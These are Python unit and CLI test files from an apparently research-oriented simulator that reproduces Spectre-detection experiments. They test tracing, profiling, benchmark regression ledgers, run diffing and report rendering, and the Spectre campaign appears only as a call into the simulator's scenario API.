        assert "hotspots:" in out
        assert "subsystem" in out
        assert "opcode" in out
        assert "basic block" in out

    def test_collapsed_mode(self, capsys):
        assert main(["hotspots", "--workload", "bitcount",
                     "--iterations", "40", "--collapsed",
                     "--by", "opcode"]) == EXIT_OK
        lines = capsys.readouterr().out.splitlines()
        assert lines
        for line in lines:
            frame, count = line.rsplit(" ", 1)
            assert frame.startswith("bitcount;")
            assert int(count) > 0

    def test_json_mode(self, capsys):
        assert main(["hotspots", "--workload", "basicmath",
                     "--iterations", "40", "--json"]) == EXIT_OK
        snapshot = json.loads(capsys.readouterr().out)
        assert snapshot["instructions"] > 0
        assert snapshot["subsystems"]

    def test_bad_filter_is_usage_error(self, capsys):
        assert main(["hotspots", "--filter", "bogus"]) == EXIT_USAGE
        assert "bogus" in capsys.readouterr().err

    def test_ooo_uarch(self, capsys):
        assert main(["hotspots", "--workload", "basicmath",
                     "--iterations", "40", "--uarch", "ooo"]) == EXIT_OK
        assert "hotspots:" in capsys.readouterr().out


class TestExperimentHotspotsFlag:
    def test_profiled_fig4_records_manifest_profile(self, tmp_path,
                                                    capsys):
        ledger = tmp_path / "runs"
        assert main(["fig4", "--quick", "--hotspots",
                     "--ledger", str(ledger)]) == EXIT_OK
        captured = capsys.readouterr()
        assert "hotspots:" in captured.out
        manifest_path = next(ledger.glob("fig4-*/manifest.json"))
        manifest = json.loads(manifest_path.read_text())
        profile = manifest["profile"]
        assert profile["instructions"] > 0
        assert profile["subsystems"]["execute"]["cycles"] > 0
        assert "wall" not in profile            # volatile, stripped
        phases = manifest["timing"]["phases"]
        assert set(phases) == {"schedule", "cache_lookup", "compute",
                               "ipc", "merge"}


class TestBenchTrend:
    def _seed_history(self, path, instructions_per_s):
        # The core suite emits fast-loop rows and sb/* superblock rows;
        # the sb floors are exact-keyed, so the synthetic row carries
        # both (sb comfortably over its 2x-of-fast-committed bar).
        row = build_row(
            "core", {"kernels": {"basicmath": 400}},
            {
                "basicmath.instructions_per_s": instructions_per_s,
                "sb/basicmath.instructions_per_s": 3 * instructions_per_s,
                "sb/sha.instructions_per_s": 3 * instructions_per_s,
            },
            quick=True,
        )
        append_history(path, row)

    def test_green_verdict(self, tmp_path, capsys):
        history = tmp_path / "history.jsonl"
        # Comfortably above the committed core floor (2x ~65.6k).
        self._seed_history(history, 1_000_000.0)
        assert main(["bench", "--trend",
                     "--history", str(history)]) == EXIT_OK
        out = capsys.readouterr().out
        assert "core: 1 run(s)" in out
        assert "no regressions" in out

    def test_regression_exits_gate(self, tmp_path, capsys):
        history = tmp_path / "history.jsonl"
        self._seed_history(history, 1_000.0)
        assert main(["bench", "--trend",
                     "--history", str(history)]) == EXIT_GATE
        out = capsys.readouterr().out
        assert "regression:" in out
        assert "instructions_per_s" in out

    def test_empty_history_is_green(self, tmp_path, capsys):
        assert main(["bench", "--trend", "--history",
                     str(tmp_path / "none.jsonl")]) == EXIT_OK
        assert "empty" in capsys.readouterr().out
