"""Module-level cell bodies for the observability tests.

Like ``tests/exec/cells.py``: cells must be importable top-level
functions so ``ProcessPoolBackend`` can pickle them into spawn-started
workers — the golden-trace test runs the same cells on both backends.
"""


def spectre_cell(samples=3, cell_seed=0):
    """A tiny spectre_v1 campaign: one injection, a few HPC windows.

    Touches every instrumented layer — ROP chain build, injection,
    execve, speculation, cache misses, profiler windows — so its trace
    exercises the full span taxonomy.
    """
    from repro.core.scenario import Scenario, ScenarioConfig

    scenario = Scenario(ScenarioConfig(
        seed=cell_seed, spectre_variants=("v1",),
    ))
    windows = scenario.attack_samples(samples, variant="v1")
    return {"windows": len(windows)}


def cpu_cell(iterations=20, cell_seed=0):
    """A bare workload run: CPU/cache/kernel spans, no attack."""
    from repro.kernel.system import System
    from repro.workloads import get_workload

    system = System(seed=cell_seed)
    system.install_binary(
        "/bin/w", get_workload("basicmath").build(iterations=iterations)
    )
    process = system.spawn("/bin/w")
    process.run_to_completion(max_instructions=5_000_000)
    return {"cycles": int(process.cpu.cycles)}
