"""Unit tests for the trace summary view (``repro trace``)."""

from repro.obs.summary import format_summary, summarize


def _rec(ph, name, ts, cell="c", clk=1, **extra):
    record = {"ph": ph, "name": name, "cat": "cpu",
              "ts": ts, "clk": clk, "seq": ts, "cell": cell}
    record.update(extra)
    return record


class TestSummarize:
    def test_x_records(self):
        stats = summarize([
            _rec("X", "cpu.speculate", 0, dur=10),
            _rec("X", "cpu.speculate", 20, dur=30),
        ])
        entry = stats["spans"]["cpu.speculate"]
        assert entry == {"count": 2, "total": 40, "max": 30}

    def test_matched_begin_end(self):
        stats = summarize([
            _rec("B", "exec.cell", 100),
            _rec("E", "exec.cell", 175),
        ])
        assert stats["spans"]["exec.cell"]["total"] == 75
        assert stats["unmatched"] == 0

    def test_interleaved_cells_do_not_cross_link(self):
        stats = summarize([
            _rec("B", "exec.cell", 0, cell="a"),
            _rec("B", "exec.cell", 0, cell="b"),
            _rec("E", "exec.cell", 10, cell="a"),
            _rec("E", "exec.cell", 99, cell="b"),
        ])
        entry = stats["spans"]["exec.cell"]
        assert entry["count"] == 2
        assert entry["total"] == 10 + 99

    def test_unmatched_records_counted(self):
        stats = summarize([
            _rec("E", "exec.cell", 5),       # dangling E
            _rec("B", "hid.train", 0),       # dangling B
        ])
        assert stats["dangling"] == 2
        # Legacy alias stays in lockstep.
        assert stats["unmatched"] == stats["dangling"]

    def test_events_and_cells(self):
        stats = summarize([
            _rec("i", "cache.miss", 1, cell="a"),
            _rec("i", "cache.miss", 2, cell="b"),
        ])
        assert stats["events"] == {"cache.miss": 2}
        assert stats["cells"] == ["a", "b"]

    def test_empty_trace(self):
        stats = summarize([])
        assert stats == {"records": 0, "cells": [], "spans": {},
                         "events": {}, "dangling": 0, "unmatched": 0}

    def test_interleaved_cells_with_dangling_b_per_cell(self):
        # Cell "a" closes cleanly; cell "b" was truncated mid-span.
        stats = summarize([
            _rec("B", "exec.cell", 0, cell="a"),
            _rec("B", "exec.cell", 0, cell="b"),
            _rec("B", "hid.train", 2, cell="b"),
            _rec("E", "exec.cell", 10, cell="a"),
        ])
        assert stats["spans"]["exec.cell"]["count"] == 1
        assert stats["dangling"] == 2

    def test_max_records_truncated_trace_counts_dangling(self):
        """A Tracer hitting its max_records cap drops the tail: the
        open B records it already emitted go unmatched, and the summary
        must surface that instead of silently under-reporting spans."""
        from repro.obs.tracer import TraceConfig, Tracer

        tracer = Tracer(TraceConfig(max_records=3))
        tracer.begin("cpu.run", "cpu")
        tracer.begin("cpu.speculate", "cpu")
        tracer.event("cache.miss", "cache")
        tracer.end("cpu.speculate", "cpu")   # dropped: over the cap
        tracer.end("cpu.run", "cpu")         # dropped: over the cap
        tracer.finalize()
        assert tracer.dropped == 2
        stats = summarize(tracer.records)
        assert stats["records"] == 3
        assert stats["dangling"] == 2
        assert stats["spans"] == {}


class TestFormatSummary:
    def test_renders_tables(self):
        records = [
            _rec("X", "hid.profile", 0, dur=500),
            _rec("i", "cache.miss", 1),
            _rec("i", "cache.miss", 2),
        ]
        text = format_summary({"experiment": "fig4"}, records)
        assert "trace: fig4" in text
        assert "top 1 spans by virtual time" in text
        assert "hid.profile" in text
        assert "event counts" in text
        assert "cache.miss" in text
        assert "warning" not in text

    def test_warns_on_dangling(self):
        text = format_summary({}, [_rec("B", "exec.cell", 0)])
        assert "1 dangling span record(s)" in text
