"""The perf-trend ledger: history rows, sparklines, the verdict.

The suite drivers themselves are bench-scale (they run real kernels
and sweeps); what these tests pin down is the ledger around them —
row schema, append-only durability, trend rendering, and the
regression verdict's exact failure semantics.
"""

import pytest

from repro.obs.bench import (
    HISTORY_FORMAT,
    append_history,
    build_row,
    check_regression,
    read_history,
    regression_floors,
    render_trend,
    sparkline,
    validate_row,
)


def _row(bench="core", ts="2026-08-01T00:00:00Z", cpu=1, **metrics):
    return {
        "format": HISTORY_FORMAT, "ts": ts, "bench": bench,
        "quick": True, "git_sha": "cafe" * 10, "cpu_count": cpu,
        "knobs": {}, "metrics": metrics,
    }


class TestRows:
    def test_build_row_validates(self):
        row = build_row("core", {"k": 1}, {"m": 2.0}, quick=True)
        assert validate_row(row)
        assert row["format"] == HISTORY_FORMAT
        assert row["quick"] is True
        assert row["cpu_count"] >= 1

    def test_append_and_read(self, tmp_path):
        path = tmp_path / "history.jsonl"
        append_history(path, _row(m=1.0))
        append_history(path, _row(bench="obs", n=2.0))
        assert len(read_history(path)) == 2
        assert read_history(path, bench="obs")[0]["metrics"] == \
            {"n": 2.0}

    def test_malformed_row_rejected(self, tmp_path):
        with pytest.raises(ValueError, match="malformed"):
            append_history(tmp_path / "h.jsonl", {"bench": "core"})

    def test_torn_and_foreign_lines_skipped(self, tmp_path):
        path = tmp_path / "history.jsonl"
        append_history(path, _row(m=1.0))
        with open(path, "a", encoding="utf-8") as handle:
            handle.write('{"foreign": true}\n{"torn')
        assert len(read_history(path)) == 1

    def test_missing_file_reads_empty(self, tmp_path):
        assert read_history(tmp_path / "none.jsonl") == []


class TestTrend:
    def test_sparkline_ramp(self):
        assert sparkline([]) == ""
        assert sparkline([5, 5]) == "▁▁"
        ramp = sparkline([0, 1, 2, 3])
        assert ramp[0] == "▁"
        assert ramp[-1] == "█"

    def test_render_lists_metrics_and_flags_mixed_hosts(self):
        rows = [
            _row(m=1.0, cpu=1),
            _row(m=2.0, cpu=4, ts="2026-08-02T00:00:00Z"),
        ]
        out = render_trend(rows)
        assert "core: 2 run(s)" in out
        assert "  m " in out
        assert "mixed hosts" in out

    def test_render_empty_history(self):
        assert "empty" in render_trend([])


class TestRegressionVerdict:
    FLOORS = {("core", "instructions_per_s"): 500.0}

    def test_green_when_above_floor(self):
        rows = [_row(**{"basicmath.instructions_per_s": 1000.0})]
        assert check_regression(rows, floors=self.FLOORS) == []

    def test_names_first_regressed_metric(self):
        rows = [_row(**{"basicmath.instructions_per_s": 100.0})]
        failures = check_regression(rows, floors=self.FLOORS)
        assert len(failures) == 1
        assert "instructions_per_s" in failures[0]
        assert "regressed" in failures[0]

    def test_only_latest_row_judged(self):
        rows = [
            _row(**{"basicmath.instructions_per_s": 100.0}),
            _row(ts="2026-08-02T00:00:00Z",
                 **{"basicmath.instructions_per_s": 1000.0}),
        ]
        assert check_regression(rows, floors=self.FLOORS) == []

    def test_worst_kernel_is_the_one_floored(self):
        rows = [_row(**{"basicmath.instructions_per_s": 1000.0,
                        "sha.instructions_per_s": 100.0})]
        failures = check_regression(rows, floors=self.FLOORS)
        assert len(failures) == 1  # min() across kernels is judged

    def test_missing_floored_metric_fails(self):
        rows = [_row(**{"unrelated.wall_s": 1.0})]
        failures = check_regression(rows, floors=self.FLOORS)
        assert failures
        assert "missing" in failures[0]

    def test_no_history_for_floored_bench_is_green(self):
        rows = [_row(bench="obs", **{"inorder.off_s": 1.0})]
        assert check_regression(rows, floors=self.FLOORS) == []

    def test_committed_floors_cover_core_and_exempt_obs(self):
        floors = regression_floors()
        assert ("core", "instructions_per_s") in floors
        assert all(bench != "obs" for bench, _ in floors)

    def test_committed_floors_include_superblock_bars(self):
        # The sb/* floors are exact-keyed per kernel (never the bare
        # suffix fallback) and pinned to the committed fast-loop rows.
        from repro.obs.bench import _ensure_benchmarks_importable

        _ensure_benchmarks_importable()
        from benchmarks.bench_core import FAST_COMMITTED, SB_MIN_SPEEDUP

        floors = regression_floors()
        for name, committed in FAST_COMMITTED.items():
            assert floors[("core", f"sb/{name}.instructions_per_s")] \
                == SB_MIN_SPEEDUP * committed
