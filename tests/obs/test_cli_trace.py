"""CLI coverage: ``repro trace`` and the ``--trace*`` flags."""

from repro.cli import EXIT_FATAL, EXIT_OK, EXIT_USAGE, main
from repro.obs import write_trace_files

SAMPLE_TRACES = {
    "host/a": [
        {"ph": "B", "name": "exec.cell", "cat": "exec",
         "ts": 0, "clk": 0, "seq": 0},
        {"ph": "X", "name": "hid.profile", "cat": "hid",
         "ts": 1, "clk": 1, "seq": 1, "dur": 900},
        {"ph": "i", "name": "cache.miss", "cat": "cache",
         "ts": 3, "clk": 1, "seq": 2},
        {"ph": "E", "name": "exec.cell", "cat": "exec",
         "ts": 3, "clk": 0, "seq": 3},
    ],
}


class TestTraceCommand:
    def test_summarises_sink(self, tmp_path, capsys):
        jsonl_path, _ = write_trace_files(tmp_path, "fig4", SAMPLE_TRACES)
        assert main(["trace", str(jsonl_path)]) == EXIT_OK
        out = capsys.readouterr().out
        assert "trace: fig4" in out
        assert "hid.profile" in out
        assert "cache.miss" in out

    def test_top_limits_rows(self, tmp_path, capsys):
        jsonl_path, _ = write_trace_files(tmp_path, "fig4", SAMPLE_TRACES)
        assert main(["trace", str(jsonl_path), "--top", "1"]) == EXIT_OK

    def test_missing_file_fails(self, tmp_path, capsys):
        path = tmp_path / "nope.jsonl"
        assert main(["trace", str(path)]) == EXIT_FATAL
        assert "cannot read" in capsys.readouterr().err

    def test_invalid_trace_fails(self, tmp_path, capsys):
        path = tmp_path / "bad.jsonl"
        path.write_text('{"format":"wrong/0"}\n')
        assert main(["trace", str(path)]) == EXIT_FATAL
        assert "invalid trace" in capsys.readouterr().err

    def test_json_output(self, tmp_path, capsys):
        import json

        jsonl_path, _ = write_trace_files(tmp_path, "fig4", SAMPLE_TRACES)
        assert main(["trace", str(jsonl_path), "--json"]) == EXIT_OK
        payload = json.loads(capsys.readouterr().out)
        assert payload["experiment"] == "fig4"
        assert payload["records"] == 4
        assert payload["cells"] == ["host/a"]
        assert payload["dangling"] == 0
        assert payload["spans"]["hid.profile"]["total"] == 900

    def test_json_on_absent_file_reports_zero_records(self, tmp_path,
                                                      capsys):
        """Scripted callers poll ``trace --json`` before the sweep has
        written anything: that is an empty summary, not a failure."""
        import json

        path = tmp_path / "not-yet.jsonl"
        assert main(["trace", str(path), "--json"]) == EXIT_OK
        payload = json.loads(capsys.readouterr().out)
        assert payload["records"] == 0
        assert payload["cells"] == []
        assert payload["spans"] == {}
        assert payload["experiment"] is None

    def test_json_on_empty_file_reports_zero_records(self, tmp_path,
                                                     capsys):
        import json

        path = tmp_path / "empty.jsonl"
        path.write_text("")
        assert main(["trace", str(path), "--json"]) == EXIT_OK
        payload = json.loads(capsys.readouterr().out)
        assert payload["records"] == 0
        assert payload["dangling"] == 0

    def test_chrome_input_round_trips(self, tmp_path, capsys):
        jsonl_path, chrome_path = write_trace_files(
            tmp_path, "fig4", SAMPLE_TRACES
        )
        assert main(["trace", str(jsonl_path)]) == EXIT_OK
        from_jsonl = capsys.readouterr().out
        assert main(["trace", str(chrome_path)]) == EXIT_OK
        from_chrome = capsys.readouterr().out
        # Same experiment name, same span tables either way.
        assert from_chrome == from_jsonl

    def test_warns_on_dangling_records(self, tmp_path, capsys):
        truncated = {
            "host/a": [
                {"ph": "B", "name": "exec.cell", "cat": "exec",
                 "ts": 0, "clk": 0, "seq": 0},
            ],
        }
        jsonl_path, _ = write_trace_files(tmp_path, "fig4", truncated)
        assert main(["trace", str(jsonl_path)]) == EXIT_OK
        assert "1 dangling span record(s)" in capsys.readouterr().out


class TestTraceFlags:
    def test_unknown_filter_is_usage_error(self, capsys):
        code = main(["fig4", "--quick", "--trace",
                     "--trace-filter", "bogus"])
        assert code == EXIT_USAGE
        assert "unknown trace categories" in capsys.readouterr().err

    def test_flags_present_on_every_experiment(self):
        from repro.cli import build_parser

        parser = build_parser()
        for name in ("fig4", "fig5", "fig6", "table1", "hardening"):
            args = parser.parse_args([name, "--trace",
                                      "--trace-filter", "cpu,cache",
                                      "--trace-out", "/tmp/x"])
            assert args.trace is True
            assert args.trace_filter == "cpu,cache"
            assert args.trace_out == "/tmp/x"
