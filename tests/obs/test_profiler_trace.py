"""Profiler determinism audit (observability satellite).

The profiler's noise model draws from a per-instance
``random.Random(seed)`` — never the global RNG — so two profiles with
the same seed are sample-for-sample equal *and* their traces are
record-for-record equal.  This test pins that contract: if anyone
reintroduces module-level randomness, the same-seed traces diverge.
"""

import random

from repro.hid.io import samples_to_records
from repro.hid.profiler import Profiler
from repro.kernel.system import System
from repro.obs.tracer import TraceConfig, Tracer, activate
from repro.workloads import get_workload


def _profile_once(seed):
    tracer = Tracer(TraceConfig(categories=("hid",)))
    with activate(tracer):
        system = System(seed=seed)
        system.install_binary(
            "/bin/w",
            get_workload("basicmath").build(iterations=1 << 28),
        )
        process = system.spawn("/bin/w")
        profiler = Profiler(quantum=2000, noise=0.05, seed=seed)
        samples = profiler.profile(process, 4)
    return samples_to_records(samples), tracer.records


class TestProfilerDeterminism:
    def test_same_seed_same_samples_and_trace(self):
        first_samples, first_trace = _profile_once(seed=3)
        second_samples, second_trace = _profile_once(seed=3)
        assert first_samples == second_samples
        assert first_trace == second_trace
        names = [r["name"] for r in first_trace]
        assert names.count("hid.window") == 4
        assert names[-1] == "hid.profile"

    def test_profiler_ignores_global_rng_state(self):
        first_samples, first_trace = _profile_once(seed=3)
        random.seed(999999)  # would perturb module-level randomness
        second_samples, second_trace = _profile_once(seed=3)
        assert first_samples == second_samples
        assert first_trace == second_trace

    def test_window_events_are_pre_noise_integers(self):
        _, trace = _profile_once(seed=3)
        windows = [r for r in trace if r["name"] == "hid.window"]
        for record in windows:
            args = record["args"]
            assert isinstance(args["instructions"], int)
            assert isinstance(args["misses"], int)
