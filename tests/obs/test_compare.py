"""Unit tests for cross-run diffing (``repro compare``)."""

from repro.obs.compare import (
    diff_count,
    diff_manifests,
    first_divergence,
    format_compare,
    localize_trace_divergence,
)
from repro.obs.ledger import LEDGER_FORMAT


def _manifest(**overrides):
    base = {
        "format": LEDGER_FORMAT,
        "run_id": "fig4-abc",
        "experiment": "fig4",
        "seed": 0,
        "config": {"seed": 0, "classifier": "mlp"},
        "config_hash": "deadbeef",
        "git_sha": "cafe",
        "partial": False,
        "cells": [{"key": "host/a", "seed": "0x1", "deps": [],
                   "status": "ok"}],
        "metrics": {"host/a": {"counters": {"cache.miss": 3}}},
        "headlines": {"accuracy": 0.97},
        "series": {},
        "traces": {"jsonl": {"path": "t.jsonl", "sha256": "aa"}},
        "timing": {"wall_s": 1.0},
    }
    base.update(overrides)
    return base


def _rec(name, ts, seq, cat="cpu", cell="host/a", ph="X", dur=1, **extra):
    record = {"ph": ph, "name": name, "cat": cat, "ts": ts,
              "clk": 1, "seq": seq, "cell": cell}
    if ph == "X":
        record["dur"] = dur
    record.update(extra)
    return record


class TestDiffManifests:
    def test_identical_runs_diff_empty(self):
        a = _manifest()
        b = _manifest(timing={"wall_s": 99.0})  # volatile only
        sections = diff_manifests(a, b)
        assert diff_count(sections) == 0

    def test_trace_location_is_not_a_diff(self):
        a = _manifest()
        b = _manifest(traces={"jsonl": {"path": "/elsewhere/t.jsonl",
                                        "sha256": "aa"}})
        assert diff_count(diff_manifests(a, b)) == 0

    def test_knob_and_headline_diffs_localised(self):
        a = _manifest()
        b = _manifest(config={"seed": 1, "classifier": "mlp"},
                      headlines={"accuracy": 0.5})
        sections = diff_manifests(a, b)
        assert sections["config"] == [("seed", 0, 1)]
        assert sections["headlines"] == [("accuracy", 0.97, 0.5)]
        assert sections["cells"] == []

    def test_absent_leaf_uses_sentinel(self):
        a = _manifest(headlines={"accuracy": 0.97, "extra": 1.0})
        b = _manifest()
        sections = diff_manifests(a, b)
        assert ("extra", 1.0, "<absent>") in sections["headlines"]

    def test_cell_status_diff(self):
        b = _manifest(cells=[{"key": "host/a", "seed": "0x1",
                              "deps": [], "status": "failed",
                              "error": "boom"}])
        sections = diff_manifests(_manifest(), b)
        paths = [path for path, _, _ in sections["cells"]]
        assert "host/a.status" in paths
        assert "host/a.error" in paths


class TestFirstDivergence:
    def test_identical_streams(self):
        records = [_rec("cpu.run", 0, 0), _rec("cpu.run", 5, 1)]
        assert first_divergence(records, list(records)) is None

    def test_divergent_record_names_subsystem(self):
        a = [_rec("cpu.run", 0, 0), _rec("cache.fill", 5, 1, cat="cache")]
        b = [_rec("cpu.run", 0, 0), _rec("cache.fill", 9, 1, cat="cache")]
        divergence = first_divergence(a, b)
        assert divergence["index"] == 1
        assert divergence["seq"] == 1
        assert divergence["subsystem"] == "cache"
        assert divergence["name"] == "cache.fill"

    def test_prefix_stream_reports_tail(self):
        a = [_rec("cpu.run", 0, 0)]
        b = [_rec("cpu.run", 0, 0), _rec("hid.train", 5, 1, cat="hid")]
        divergence = first_divergence(a, b)
        assert divergence["index"] == 1
        assert divergence["subsystem"] == "hid"
        assert divergence["a"] == "<end of trace>"

    def test_args_only_divergence_is_visible(self):
        a = [_rec("exec.cell", 0, 0, args={"seed": 1})]
        b = [_rec("exec.cell", 0, 0, args={"seed": 2})]
        divergence = first_divergence(a, b)
        assert "seed" in divergence["a"]
        assert divergence["a"] != divergence["b"]


class TestLocalize:
    def test_per_cell_first_divergence(self):
        header = {"cells": ["host/a", "host/b"]}
        a = [_rec("cpu.run", 0, 0, cell="host/a"),
             _rec("cpu.run", 0, 1, cell="host/b")]
        b = [_rec("cpu.run", 0, 0, cell="host/a"),
             _rec("cpu.run", 7, 1, cell="host/b")]
        findings = localize_trace_divergence(header, a, header, b)
        assert [f["cell"] for f in findings] == ["host/b"]

    def test_missing_cell_reported_structurally(self):
        a = [_rec("cpu.run", 0, 0, cell="host/a")]
        findings = localize_trace_divergence(
            {"cells": ["host/a"]}, a, {"cells": []}, []
        )
        assert findings == [{"cell": "host/a", "missing_from": "B"}]


class TestFormatCompare:
    def test_zero_diff_renders_identical_line(self):
        text = format_compare("r1", "r2", diff_manifests(_manifest(),
                                                         _manifest()))
        assert "0 differing field(s)" in text
        assert "identical" in text

    def test_sections_capped_at_max_rows(self):
        a = _manifest(metrics={f"cell/{i}": {"x": i} for i in range(30)})
        b = _manifest(metrics={f"cell/{i}": {"x": i + 1}
                               for i in range(30)})
        text = format_compare("r1", "r2", diff_manifests(a, b),
                              max_rows=5)
        assert "25 more metrics difference(s) elided" in text

    def test_trace_findings_name_subsystem(self):
        finding = {"cell": "host/a", "index": 3, "seq": 3,
                   "subsystem": "attack", "name": "attack.rop",
                   "a": "X attack.rop ts=1", "b": "X attack.rop ts=2"}
        text = format_compare("r1", "r2",
                              diff_manifests(_manifest(), _manifest()),
                              trace_findings=[finding])
        assert "subsystem [attack]" in text
        assert "'attack.rop'" in text
