"""Unit tests for the JSONL and Chrome trace sinks."""

import json

import pytest

from repro.obs.sinks import (
    TRACE_FORMAT,
    TraceSchemaError,
    chrome_trace,
    read_jsonl,
    trace_jsonl,
    validate_record,
    write_trace_files,
)


def _record(**overrides):
    record = {"ph": "i", "name": "cache.miss", "cat": "cache",
              "ts": 10, "clk": 1, "seq": 0}
    record.update(overrides)
    return record


SAMPLE_TRACES = {
    "cell/a": [
        {"ph": "B", "name": "exec.cell", "cat": "exec",
         "ts": 0, "clk": 0, "seq": 0, "args": {"key": "cell/a"}},
        {"ph": "X", "name": "cpu.speculate", "cat": "cpu",
         "ts": 5, "clk": 1, "seq": 1, "dur": 14},
        {"ph": "E", "name": "exec.cell", "cat": "exec",
         "ts": 2, "clk": 0, "seq": 2},
    ],
    "cell/b": [
        {"ph": "i", "name": "cache.miss", "cat": "cache",
         "ts": 7, "clk": 1, "seq": 0},
    ],
}


class TestValidateRecord:
    def test_accepts_well_formed(self):
        validate_record(_record())
        validate_record(_record(ph="X", dur=3))

    def test_missing_field(self):
        record = _record()
        del record["ts"]
        with pytest.raises(TraceSchemaError, match="ts"):
            validate_record(record)

    def test_wrong_type(self):
        with pytest.raises(TraceSchemaError, match="expected int"):
            validate_record(_record(ts=1.5))

    def test_unknown_phase(self):
        with pytest.raises(TraceSchemaError, match="phase"):
            validate_record(_record(ph="Q"))

    def test_x_without_dur(self):
        with pytest.raises(TraceSchemaError, match="dur"):
            validate_record(_record(ph="X"))

    def test_unknown_field(self):
        with pytest.raises(TraceSchemaError, match="wallclock"):
            validate_record(_record(wallclock=123))


class TestJsonlSink:
    def test_header_and_cell_stamp(self):
        text = trace_jsonl("fig4", SAMPLE_TRACES)
        lines = text.splitlines()
        header = json.loads(lines[0])
        assert header == {"format": TRACE_FORMAT, "experiment": "fig4",
                          "cells": ["cell/a", "cell/b"]}
        assert len(lines) == 1 + 4
        assert json.loads(lines[1])["cell"] == "cell/a"
        assert json.loads(lines[-1])["cell"] == "cell/b"

    def test_deterministic_bytes(self):
        assert (trace_jsonl("fig4", SAMPLE_TRACES)
                == trace_jsonl("fig4", SAMPLE_TRACES))

    def test_read_roundtrip(self, tmp_path):
        path = tmp_path / "fig4.trace.jsonl"
        path.write_text(trace_jsonl("fig4", SAMPLE_TRACES))
        header, records = read_jsonl(path)
        assert header["experiment"] == "fig4"
        assert len(records) == 4
        assert records[0]["name"] == "exec.cell"

    def test_read_rejects_bad_format(self, tmp_path):
        path = tmp_path / "bad.jsonl"
        path.write_text('{"format":"something-else/9"}\n')
        with pytest.raises(TraceSchemaError, match="unknown format"):
            read_jsonl(path)

    def test_read_rejects_bad_record(self, tmp_path):
        path = tmp_path / "bad.jsonl"
        header = json.dumps({"format": TRACE_FORMAT,
                             "experiment": "x", "cells": []})
        path.write_text(header + '\n{"ph":"i"}\n')
        with pytest.raises(TraceSchemaError, match="line 2"):
            read_jsonl(path)


class TestChromeSink:
    def test_structure(self):
        doc = chrome_trace(SAMPLE_TRACES)
        events = doc["traceEvents"]
        # One process_name metadata record per cell, pids 1-based.
        meta = [e for e in events if e["ph"] == "M"]
        assert [(e["pid"], e["args"]["name"]) for e in meta] == [
            (1, "cell/a"), (2, "cell/b"),
        ]
        complete = next(e for e in events if e["ph"] == "X")
        assert complete["dur"] == 14
        assert complete["tid"] == 1
        instant = next(e for e in events if e["ph"] == "i")
        assert instant["s"] == "t"
        assert doc["otherData"]["format"] == TRACE_FORMAT

    def test_write_trace_files(self, tmp_path):
        out = tmp_path / "traces"
        jsonl_path, chrome_path = write_trace_files(
            out, "fig4", SAMPLE_TRACES
        )
        header, records = read_jsonl(jsonl_path)
        assert len(records) == 4
        with open(chrome_path, "r", encoding="utf-8") as handle:
            doc = json.load(handle)
        assert doc["traceEvents"]
