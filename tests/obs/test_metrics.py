"""Unit tests for the per-cell metrics registry."""

import json

from repro.obs.metrics import (
    DEFAULT_BUCKETS,
    MetricsRegistry,
    format_count,
    format_metrics_line,
    headline,
)


class TestMetricsRegistry:
    def test_counters_and_gauges(self):
        metrics = MetricsRegistry()
        metrics.inc("events.cache.miss")
        metrics.inc("events.cache.miss", 3)
        metrics.set_gauge("cpu.cycles", 9000)
        snapshot = metrics.snapshot()
        assert snapshot["counters"] == {"events.cache.miss": 4}
        assert snapshot["gauges"] == {"cpu.cycles": 9000}

    def test_histogram_bucket_placement(self):
        metrics = MetricsRegistry()
        metrics.observe("cpu.speculate.squashed", 1)   # <= 1, bucket 0
        metrics.observe("cpu.speculate.squashed", 3)   # <= 4, bucket 2
        metrics.observe("cpu.speculate.squashed", 1 << 25)  # overflow
        hist = metrics.snapshot()["histograms"]["cpu.speculate.squashed"]
        assert hist["buckets"][0] == 1
        assert hist["buckets"][2] == 1
        assert hist["buckets"][-1] == 1
        assert hist["count"] == 3
        assert hist["sum"] == 1 + 3 + (1 << 25)
        assert len(hist["buckets"]) == len(DEFAULT_BUCKETS) + 1

    def test_snapshot_is_json_stable(self):
        metrics = MetricsRegistry()
        metrics.inc("b")
        metrics.inc("a")
        metrics.set_gauge("z", 1)
        text = json.dumps(metrics.snapshot(), sort_keys=True)
        assert json.loads(text) == metrics.snapshot()
        # Key order is sorted regardless of insertion order.
        assert list(metrics.snapshot()["counters"]) == ["a", "b"]


class TestFormatting:
    def test_format_count(self):
        assert format_count(17) == "17"
        assert format_count(1234) == "1.2k"
        assert format_count(5_000_000) == "5.0M"
        assert format_count(2_500_000_000) == "2.5G"

    def test_headline_skips_missing(self):
        snapshot = {"counters": {}, "gauges": {"trace.records": 12},
                    "histograms": {}}
        assert headline(snapshot) == [("rec", "12")]

    def test_headline_hides_zero_drops(self):
        snapshot = {
            "counters": {"events.cache.miss": 7},
            "gauges": {"cpu.cycles": 100, "trace.records": 3,
                       "trace.dropped": 0},
            "histograms": {},
        }
        labels = [label for label, _ in headline(snapshot)]
        assert "drop" not in labels
        assert labels == ["cycles", "miss", "rec"]

    def test_format_metrics_line(self):
        snapshot = {"counters": {"events.cache.miss": 3400},
                    "gauges": {"cpu.cycles": 1_200_000},
                    "histograms": {}}
        assert format_metrics_line(snapshot) == "cycles=1.2M miss=3.4k"
