"""Unit tests for the static HTML dashboard (``repro report``)."""

from repro.obs.gate import check_headlines
from repro.obs.ledger import LEDGER_FORMAT
from repro.obs.report import (
    _sparkline_svg,
    format_headline_value,
    render_html,
)

MANIFEST = {
    "format": LEDGER_FORMAT,
    "run_id": "fig5-abc",
    "experiment": "fig5",
    "seed": 0,
    "config": {"seed": 0, "classifier": "<mlp>"},
    "config_hash": "deadbeef",
    "git_sha": "cafe" * 10,
    "partial": False,
    "cells": [
        {"key": "training", "seed": "0x1", "deps": [], "status": "ok"},
        {"key": "spectre/attempt/0", "seed": "0x2", "deps": [],
         "status": "failed", "error": "boom & bust"},
    ],
    "metrics": {"training": {"counters": {"events.cache.miss": 1234},
                             "gauges": {"cpu.cycles": 5000,
                                        "trace.records": 42}}},
    "headlines": {"spectre_mean_accuracy": 1.0,
                  "crspectre_mean_accuracy": 0.2857},
    "series": {"offline/lr": [1.0, 0.4, 0.2, 0.3]},
    "traces": {"jsonl": {"path": "fig5.trace.jsonl", "sha256": "aa"}},
    "timing": {"wall_s": 14.2},
}


class TestFormatHeadlineValue:
    def test_ratio_headline_renders_percent(self):
        assert format_headline_value("spectre_mean_accuracy",
                                     0.2857) == "28.6%"
        assert format_headline_value("max_ipc_overhead",
                                     0.011) == "1.1%"

    def test_non_ratio_float(self):
        assert format_headline_value("threshold", 123.456) == "123.5"

    def test_count(self):
